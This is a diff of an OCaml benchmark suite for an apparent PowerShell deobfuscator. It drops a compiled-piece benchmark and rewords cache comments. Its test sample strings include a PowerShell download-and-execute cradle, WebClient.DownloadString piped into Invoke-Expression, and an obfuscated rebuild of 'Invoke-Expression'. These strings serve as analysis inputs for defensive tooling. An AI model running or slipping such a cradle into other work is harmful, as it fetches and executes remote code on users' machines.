@@ -85,9 +85,8 @@ let run_funnel () =
 
 (* ---------- batch throughput (domain-pool scaling) ---------- *)
 
-(* the recovery-phase wall total this suite measured before closure
-   compilation and the cross-file cache landed — the regression anchor for
-   the 5x gate below *)
+(* the recovery-phase wall total this suite measured before the cross-file
+   piece cache landed — the regression anchor for the 5x gate below *)
 let baseline_recovery_ms = 883.7
 
 let run_throughput () =
@@ -1572,11 +1571,9 @@ let micro_tests () =
        (New-Object Net.WebClient).DownloadString($u) | Invoke-Expression"
   in
   let simple = "('wri'+'te-host') ('he'+'llo')" in
-  (* compiled-vs-walk: the same piece through the per-call parse+walk of
-     Interp.invoke_piece and through a program compiled once outside the
-     measured loop — the recovery fixpoint's repeat-execution shape *)
+  (* a recovery-sized piece through Interp.invoke_piece's parse+walk —
+     the per-execution cost the recovery fixpoint pays on a cache miss *)
   let piece = "(('In'+'voke')+('-Ex'+'pression'))+[string](17*3+2)" in
-  let compiled = Pseval.Compile.compile piece in
   [
     Test.make ~name:"lexer/multilayer-sample"
       (Staged.stage (fun () -> ignore (Pslex.Lexer.tokenize sample)));
@@ -1590,10 +1587,6 @@ let micro_tests () =
       (Staged.stage (fun () ->
            let env = Pseval.Env.create () in
            ignore (Pseval.Interp.invoke_piece env piece)));
-    Test.make ~name:"pseval/piece-compiled"
-      (Staged.stage (fun () ->
-           let env = Pseval.Env.create () in
-           ignore (Pseval.Compile.run env compiled)));
     Test.make ~name:"deobf/simple"
       (Staged.stage (fun () -> ignore (Deobf.Engine.run simple)));
     Test.make ~name:"deobf/multilayer"
